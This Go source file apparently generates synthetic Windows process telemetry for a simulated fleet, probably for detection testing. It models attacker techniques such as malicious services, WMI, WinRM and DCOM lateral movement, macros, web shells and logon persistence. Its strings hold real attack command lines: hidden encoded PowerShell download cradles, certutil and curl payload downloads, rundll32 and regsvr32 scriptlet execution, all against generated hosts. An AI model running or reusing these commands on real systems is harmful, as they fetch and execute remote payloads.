package realistic

// rootStories are the channels of a fleet of other roots, several of each preset. Names,
// folders and places come from where the tail's come from.
var rootStories = []story{
	{kind: "service-random", under: "service", devices: 1, make: randomService},
	{kind: "service-shell", under: "service", devices: 1, make: shellService},
	{kind: "service-vendor", under: "service", devices: 1, make: vendorService},
	{kind: "wmi-exec", under: "wmi", devices: 1, make: wmiExec},
	{kind: "wmi-consumer", under: "wmi", devices: 1, make: wmiConsumer},
	{kind: "winrm-session", under: "winrm", devices: 1, make: remoteSession},
	{kind: "winrm-download", under: "winrm", devices: 1, make: remoteDownload},
	{kind: "dcom-console", under: "dcom", devices: 1, make: remoteConsole},
	{kind: "dcom-elevated", under: "dcom", devices: 1, make: elevatedShell},
	{kind: "office-macro", under: "office", devices: 1, make: macroStory},
	{kind: "office-scriptlet", under: "office", devices: 1, make: scriptletStory},
	{kind: "web-shell", under: "web", devices: 1, make: webShell},
	{kind: "web-exploit", under: "web", devices: 1, make: webExploit},
	{kind: "logon-run-key", under: "logon", devices: 1, make: runKey},
	{kind: "logon-script", under: "logon", devices: 1, make: startupScript},
}

// planted is a kind without a task, of one edition.
func planted(when trigger, root node) kind {
	return kind{when: when, editions: []edition{{version: "1", root: root}}}
}

// soon is several times in the hours after a channel begins.
func soon(d dice) trigger {
	return trigger{on: random, every: d.between(hour, 3*hour), atOnce: true}
}

func randomService(w *world, d dice, p *plant) kind {
	file := `C:\Windows\` + d.text(8, mixedCase) + `.exe`
	return planted(soon(d), exe(file, file).by("-").lives(hour, 3*hour).call(p.beacon(w, 3*minute, 0.2)))
}

// beacon calls a place of its own again and again while the process lives.
func (p *plant) beacon(w *world, period Time, jitter float64) call {
	c := p.calls(w.own(""), period, jitter)
	c.every, c.jitter = period, jitter
	return c
}

func shellService(w *world, d dice, p *plant) kind {
	c := p.beacon(w, minute, 0.1)
	run := `powershell -nop -w hidden -encodedcommand ` + encoded(`IEX (New-Object Net.WebClient).DownloadString('https://`+hostOf(p.where)+`/`+d.text(5, lower)+`')`)
	return planted(soon(d), exe(system32+"cmd.exe", `C:\Windows\system32\cmd.exe /C start /b `+run).with(exe(powershell, run).lives(20*minute, hour).call(c)))
}

func vendorService(w *world, d dice, p *plant) kind {
	v := w.names.vendor()
	file := `C:\ProgramData\` + v + `\` + programName(d, v)
	return planted(soon(d), exe(file, `"`+file+`" --service`).by("-").lives(3*hour, 9*hour).call(p.beacon(w, 20*minute, 0.1)))
}

func wmiExec(w *world, d dice, p *plant) kind {
	c := p.calls(w.own(""), 0, 0)
	out := ` 1> \\127.0.0.1\ADMIN$\__{epoch}.` + d.text(6, digits) + ` 2>&1`
	return planted(soon(d), exe(system32+"cmd.exe", `cmd.exe /Q /c certutil -urlcache -f https://`+hostOf(p.where)+`/a C:\Windows\Temp\a.exe`+out).as(asAdmin).with(
		bare("certutil.exe", ` -urlcache -f https://`+hostOf(p.where)+`/a C:\Windows\Temp\a.exe`).call(c)))
}

func wmiConsumer(w *world, _ dice, p *plant) kind {
	c := p.calls(w.own(""), hour, 0)
	return planted(each(hour, minute), exe(powershell, `powershell -noP -sta -w 1 -enc `+encoded(`$w=New-Object Net.WebClient;$w.DownloadString('https://`+hostOf(p.where)+`/n')`)).lives(minute, 4*minute).call(c))
}

func remoteSession(w *world, d dice, p *plant) kind {
	c := p.beacon(w, 2*minute, 0.3)
	return planted(soon(d), exe(powershell, `"`+powershell+`" -nop -w hidden -enc `+encoded(`IEX(irm https://`+hostOf(p.where)+`/r)`)).as(asAdmin).lives(20*minute, hour).call(c).with(bare("whoami.exe", " /all"), bare("net.exe", ` group "Domain Admins" /domain`)))
}

func remoteDownload(w *world, d dice, p *plant) kind {
	c, stem := p.calls(w.own(""), 0, 0), d.text(6, lower)
	return planted(soon(d), cmd(`curl -s https://`+hostOf(p.where)+`/`+stem+` -o C:\Users\Public\`+stem+`.dll & rundll32 C:\Users\Public\`+stem+`.dll,Start`).as(asAdmin).with(
		bare("curl.exe", ` -s https://`+hostOf(p.where)+`/`+stem+` -o C:\Users\Public\`+stem+`.dll`).call(c), bare("rundll32.exe", ` C:\Users\Public\`+stem+`.dll,Start`).call(c)))
}

func remoteConsole(w *world, d dice, p *plant) kind {
	c := p.calls(w.own(""), 0, 0)
	return planted(soon(d), cmd(`powershell -nop -w hidden -c "iwr https://`+hostOf(p.where)+`/m -OutFile C:\Windows\Temp\m.exe"`).as(asAdmin).with(ps(`-nop -w hidden -c "iwr https://`+hostOf(p.where)+`/m -OutFile C:\Windows\Temp\m.exe"`).call(c)))
}

func elevatedShell(w *world, d dice, p *plant) kind {
	c, stem := p.beacon(w, 5*minute, 0.2), d.text(7, lower)
	return planted(soon(d), cmd(`start {home}\AppData\Local\Temp\`+stem+`.exe`).as(asUser).with(exe(`{home}\AppData\Local\Temp\`+stem+`.exe`, `{home}\AppData\Local\Temp\`+stem+`.exe`).by("-").lives(hour, 3*hour).call(c)))
}

func macroStory(w *world, d dice, p *plant) kind {
	c := p.calls(w.own(""), 0, 0)
	return planted(soon(d), cmd(`powershell -w hidden -enc `+encoded(`iwr https://`+hostOf(p.where)+`/d -OutFile $env:TEMP\d.exe`)).as(asUser).with(ps(`-w hidden -enc `+encoded(`iwr https://`+hostOf(p.where)+`/d -OutFile $env:TEMP\d.exe`)).call(c)))
}

func scriptletStory(w *world, d dice, p *plant) kind {
	c := p.calls(w.own(""), 0, 0)
	return planted(soon(d), tool("regsvr32.exe", ` /s /n /u /i:https://`+hostOf(p.where)+`/`+d.text(4, lower)+`.sct scrobj.dll`).as(asUser).lives(10*second, minute).call(c))
}

func webShell(w *world, d dice, p *plant) kind {
	c := p.calls(w.own(""), 0, 0)
	return planted(soon(d), cmd(`whoami & powershell -nop -c "iwr https://`+hostOf(p.where)+`/x -OutFile C:\Windows\Temp\x.exe"`).as(asNetworkService).with(bare("whoami.exe", ""), ps(`-nop -c "iwr https://`+hostOf(p.where)+`/x -OutFile C:\Windows\Temp\x.exe"`).call(c)))
}

func webExploit(w *world, d dice, p *plant) kind {
	c, stem := p.beacon(w, 4*minute, 0.2), d.text(7, lower)
	return planted(soon(d), cmd(`certutil -urlcache -split -f http://`+hostOf(p.where)+`/`+stem+` C:\Windows\Temp\`+stem+`.exe & C:\Windows\Temp\`+stem+`.exe`).as(asLocalService).with(
		bare("certutil.exe", ` -urlcache -split -f http://`+hostOf(p.where)+`/`+stem+` C:\Windows\Temp\`+stem+`.exe`).call(p.calls(p.where, 4*minute, 0.2)),
		exe(`C:\Windows\Temp\`+stem+`.exe`, `C:\Windows\Temp\`+stem+`.exe`).by("-").lives(hour, 3*hour).call(c)))
}

func runKey(w *world, d dice, p *plant) kind {
	v := w.names.vendor()
	file := `{home}\AppData\Roaming\` + v + `\` + programName(d, v)
	return planted(trigger{on: atLogon}, exe(file, `"`+file+`"`).by("-").as(asUser).lives(3*hour, 9*hour).call(p.beacon(w, 10*minute, 0.1)))
}

func startupScript(w *world, _ dice, p *plant) kind {
	c, stem := p.beacon(w, 15*minute, 0.2), w.names.script()
	return planted(trigger{on: atLogon}, tool("wscript.exe", ` "{home}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\`+stem+`.js"`).as(asUser).with(
		ps(`-w hidden -ep bypass -file {home}\AppData\Roaming\`+stem+`.ps1`).lives(3*hour, 9*hour).call(c)))
}
